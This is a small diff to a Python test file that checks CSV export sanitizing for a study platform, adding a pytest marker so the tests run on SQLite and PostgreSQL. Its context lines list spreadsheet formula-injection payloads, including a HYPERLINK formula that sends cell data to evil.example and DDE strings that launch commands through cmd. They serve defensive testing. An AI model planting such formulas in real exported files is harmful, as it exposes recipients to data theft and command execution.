@@ -12,6 +12,7 @@ import io
 import re
 from pathlib import Path
 
+import pytest
 from fastapi.testclient import TestClient
 from sqlmodel import Session
 
@@ -20,6 +21,8 @@ from runtime.csv_safe import TRIGGERS, safe_cell, unquote_cell
 from study_protocols.study_b import StudyBPlan
 from tests.security.requests_world import annotator_row, launched_study_b, make_world
 from tests.webclient import log_in
+
+pytestmark = pytest.mark.database  # each test runs on SQLite and on PostgreSQL (tests/pg.py)
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
